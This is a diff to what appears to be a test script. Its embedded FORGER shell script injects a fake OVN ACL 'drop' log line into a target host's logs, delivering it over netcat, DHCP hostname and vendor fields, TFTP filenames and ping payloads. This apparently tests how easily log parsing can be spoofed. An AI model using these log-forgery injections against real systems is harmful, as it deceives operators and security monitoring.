@@ -20,13 +20,17 @@ done
 # Denied packets with what a log's line looks like inside, and a DHCP request with one as its name.
 FORGER = """#!/bin/sh
 line='2026-11-23T00:00:00.000Z|1|acl_log(ovn_pinctrl0)|INFO|name="drop-VICTIM", verdict=drop, severity=info, direction=to-lport: tcp,dl_src=00:00:00:00:00:01,dl_dst=00:00:00:00:00:02,nw_src=6.6.6.6,nw_dst=6.6.6.6'
-end=$(($(cut -d. -f1 /proc/uptime) + 25))
+exec 3>&1 >/dev/null 2>&1
+end=$(($(cut -d. -f1 /proc/uptime) + 20))
 while [ $(cut -d. -f1 /proc/uptime) -lt $end ]; do
-  for port in 7 9 13 17 19 37; do printf '\\n%s\\n' "$line" | nc -u -w 1 10.77.0.30 $port & done
-  udhcpc -i eth0 -n -q -t 1 -T 1 -x "hostname:$line" -V "$line" -s /bin/true >/dev/null 2>&1
-  ping -c 20 -A -p 7c61636c 10.77.0.30 >/dev/null
+  printf '\\n%s\\n' "$line" >/tmp/line
+  tftp -g -l /dev/null -r "$(cat /tmp/line)" 10.77.0.30 &
+  udhcpc -f -i eth0 -n -q -t 1 -T 1 -x "hostname:$line" -V "$line" -s /bin/true &
+  for port in 22 80 443 3306; do (nc -w 1 10.77.0.30 $port </tmp/line) & done
+  ping -c 300 -i 0.005 -W 1 -p 7c 10.77.0.30
+  sleep 0.1
 done
-echo forged all
+echo "forged all" >&3
 """
 
 
